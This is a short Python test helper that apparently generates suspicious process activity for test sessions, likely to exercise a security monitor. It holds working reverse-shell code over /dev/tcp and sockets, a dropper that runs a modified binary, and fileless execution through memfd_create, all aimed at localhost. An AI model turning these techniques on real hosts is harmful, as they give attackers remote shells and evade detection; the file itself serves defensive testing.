# SPDX-License-Identifier: GPL-2.0-or-later
"""What is done in test sessions; run as: sessions.py NAME ARGUMENT..."""
import os
import socket
import sys


def reverse_shell(port):
    """bash connects back to PORT of this machine."""
    os.execvp('bash', ['bash', '-c', f'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'])


def late_shell(port):
    """Connects to PORT, waits for a line, and becomes a shell on the connection."""
    peer = socket.create_connection(('127.0.0.1', int(port)))
    sys.stdin.readline()
    for fd in range(3):
        os.dup2(peer.fileno(), fd)
    os.execvp('bash', ['bash', '-i'])


def dropped(source, target, seconds):
    """A program is copied to TARGET, made another by a byte, and run."""
    with open(source, 'rb') as file:
        code = file.read() + b'x'
    fd = os.open(target, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o755)
    os.write(fd, code)
    os.close(fd)
    os.execv(target, [target, seconds])


def memfd(source, name, seconds):
    """A program is run that exists in memory only."""
    fd = os.memfd_create(name)
    with open(source, 'rb') as file:
        os.write(fd, file.read())
    os.execv(f'/proc/self/fd/{fd}', [name, seconds])


def load(port):
    """Shells, pipelines and files, as fast as it goes, until its input ends."""
    os.chdir('/tmp')
    os.execvp('bash', ['bash', '-c', f'''
n=0
until read -t 0.01 || [ $? -le 128 ]; do
    n=$((n + 1))
    echo $n | cat | tr 0-9 a-j >/dev/null
    (exec 3</dev/null; /bin/true; /bin/echo $n; sh -c 'exit 3') >/dev/null
    if [ $((n % 20)) = 1 ]; then
        bash -c 'exec 5<>/dev/tcp/127.0.0.1/{port}; bash <&5 >&5 2>&5'
    fi
done'''])


def count():
    """Runs programs one by one until its input ends, and says how many."""
    os.execvp('bash', ['bash', '-c', '''
n=0
until read -t 0.02 || [ $? -le 128 ]; do
    n=$((n + 1))
    /bin/echo counted $n >/dev/null
done
echo $n'''])


if __name__ == '__main__':
    globals()[sys.argv[1]](*sys.argv[2:])
